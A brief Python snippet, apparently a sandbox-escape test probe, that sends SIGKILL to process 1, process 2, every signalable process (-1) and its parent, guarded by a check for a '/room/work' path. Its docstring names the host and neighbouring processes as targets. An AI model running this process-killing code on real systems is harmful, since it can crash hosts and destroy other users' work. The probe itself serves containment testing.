"""Kills all that it can name: process 1, its parent, its group, every number there is.

gain: host, neighbour
"""

# %%
import os
import signal

for pid in (1, 2, -1, os.getppid()):
    if os.path.exists("/room/work"):  # never where there is no jail
        attempt(os.kill, pid, signal.SIGKILL)
